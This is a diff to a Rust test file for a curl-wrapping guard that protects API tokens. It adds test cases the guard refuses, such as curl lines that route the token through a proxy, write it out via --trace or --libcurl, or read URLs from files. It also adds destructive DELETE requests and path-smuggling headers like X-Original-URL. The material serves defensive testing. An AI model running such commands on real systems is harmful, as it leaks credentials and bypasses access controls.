@@ -384,6 +384,17 @@ fn what_could_lead_the_token_away_is_refused() {
         ("curl -s -U u:$DEV. -x http://proxy.example:1 DEV/x", "exit 2: the token of profile dev"),
         ("curl -s -x http://u:$DEV.@proxy.example:1 DEV/x", "exit 2: the token of profile dev"),
         ("curl -s --preproxy socks5://u:$DEV.@proxy.example:1 DEV/x", "exit 2: the token of profile dev"),
+        ("curl -s --trace t ELSEWHERE/x --next -s DEV/x", "exit 2: --trace would write the token"),
+        ("curl -s DEV/x --next -s --libcurl c ELSEWHERE/x", "exit 2: --libcurl would write the token"),
+        ("curl -s -K file ELSEWHERE/x --next -s DEV/x", "exit 2: -K can hold a URL"),
+        ("curl -s -G -d @file DEV/x", "exit 2: -d can hold a URL, a method"),
+        ("curl -s --url-query @file DEV/x", "exit 2: --url-query can hold a URL, a method"),
+        ("curl -s --url-query a@file DEV/x", "exit 2: --url-query can hold a URL, a method"),
+        ("curl -s --url-query a=b@c DEV/x", "-q -K DEV --globoff -s --url-query a=b@c DEV/x"),
+        ("curl -s -X GET -d @file DEV/x", "exit 2: -d can hold a URL, a method"),
+        ("curl -s -X GET -T file DEV/x", "exit 2: -T can hold a URL, a method"),
+        ("curl -s -X GET --json @file DEV/x", "-q -K DEV --globoff -s -X GET --json @file DEV/x"),
+        ("curl -s -d @file DEV/x", "-q -K DEV --globoff -s -d @file DEV/x"),
         // Plain http stays on this machine.
         ("-p local curl -s -x http://proxy.example:1 LOCAL/x", "exit 2: over plain http"),
         ("-p local curl -s --socks5 192.0.2.1 LOCAL/x", "exit 2: over plain http"),
@@ -441,7 +452,7 @@ fn what_could_lead_the_token_away_is_refused() {
 }
 
 /// Lines that are more than a read, with the path where the URL belongs.
-const WRITES: [&str; 59] = [
+const WRITES: [&str; 60] = [
     "-X DELETE 'BASE/api/v1/datasets/retail/orders'",
     "-XDELETE 'BASE/api/v1/datasets/retail/orders'",
     "-sXdElEtE 'BASE/api/v1/datasets/retail/orders'",
@@ -492,6 +503,7 @@ const WRITES: [&str; 59] = [
     "-F x=@form 'BASE/api/v1/datasets/retail/orders/export'",
     "-F 'x=<form' 'BASE/api/v1/datasets/retail/orders/export'",
     "-X POST -T form 'BASE/api/v1/datasets/retail/orders/export'",
+    "--json @form -H 'Content-Type: application/x-www-form-urlencoded' 'BASE/api/v1/datasets/retail/orders/export'",
     // A header that names another path.
     "-H 'X-Original-URL: /acme/prod/reinfer_/api/v1/datasets/retail/orders' 'BASE/api/v1/projects'",
     "-H 'X-Rewrite-URL: /acme/prod/reinfer_/other' 'BASE/api/v1/projects'",
@@ -534,6 +546,8 @@ fn what_a_guard_allows_is_run() {
             "-q -K PROD --globoff -s -H 'Content-Type: application/json' -d @file PROD/api/v1/datasets/retail/orders/export",
         ),
         ("-p prod curl -sL --json {} PROD/api/v1/datasets/retail/orders/export", "-q -K PROD --globoff -s --json {} PROD/api/v1/datasets/retail/orders/export"),
+        ("-p prod curl -s -d a=b@c PROD/api/v1/datasets/retail/orders/export", "-q -K PROD --globoff -s -d a=b@c PROD/api/v1/datasets/retail/orders/export"),
+        ("-p prod curl -s --data-raw @c PROD/api/v1/datasets/retail/orders/export", "-q -K PROD --globoff -s --data-raw @c PROD/api/v1/datasets/retail/orders/export"),
         ("-p prod curl -s -G -d a=b PROD/api/v1/datasets", "-q -K PROD --globoff -s -G -d a=b PROD/api/v1/datasets"),
         ("-p ro curl -s READONLY/api/v1/datasets", "-q -K RO --globoff -s READONLY/api/v1/datasets"),
         ("-p localro curl -s LOCALRO/api/v1/datasets", "-q -K LOCALRO --globoff --noproxy '*' -s LOCALRO/api/v1/datasets"),
